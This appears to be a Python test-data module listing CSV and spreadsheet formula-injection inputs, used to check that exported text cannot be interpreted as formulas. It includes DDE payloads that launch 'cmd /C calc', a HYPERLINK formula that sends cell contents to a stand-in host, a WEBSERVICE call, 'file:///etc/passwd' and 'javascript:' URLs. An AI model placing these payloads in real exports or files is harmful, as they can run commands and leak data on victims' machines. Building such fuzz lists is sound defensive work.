"""Texts that a spreadsheet program could take for more than text, if a file let it."""

from __future__ import annotations

_BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "  =",
    "\x00=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    "\u202e=",
    "\ufeff=",
)
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.invalid/?"&A1,"a")',
    'WEBSERVICE("http://x.invalid")',
)
PAYLOADS: tuple[str, ...] = (
    *(begin + formula for begin in _BEGINNINGS for formula in _FORMULAS),
    *("=", "+", "-", "@", "=-", "-2+3", "+A1", "@SUM(A1:A9)", "=A1", "={1,2}", "=1+1\n", "--1", "-1e3", "1=1"),
    *("a\n=1+1", 'a","=1+1', "a,=1+1", "a;=1+1", "a|=1+1", "a\t=1+1", "%0A=1", "=DDE('cmd';'/C calc';'x')"),
    *("#N/A", "#REF!", "#DIV/0!", "#NAME?", "TRUE", "1e5", "0x1F", "00123", "12/11/2026", "1:30", "$5", "5 %"),
    *("_x0041_", "_x000D_=1", "_x005F_", "<f>1+1</f>", "]]><f>1</f>", "&#61;1+1", "&amp;", "<is><t>x</t></is>"),
    *(
        "javascript:alert(1)",
        "file:///etc/passwd",
        "\\\\host.invalid\\share",
        "//host.invalid/share",
        "mailto:a@b.invalid",
    ),
    *(
        "a\x00b\x07\x1b[31mc\x9b",
        "\ufffe\uffff",
        "\ud800",
        "\u2028",
        "👩\u200d🔬",
        "e\u0301",
        "x" * 40_000,
        "é" * 33_000,
    ),
    "𝒳" * 20_000,
)
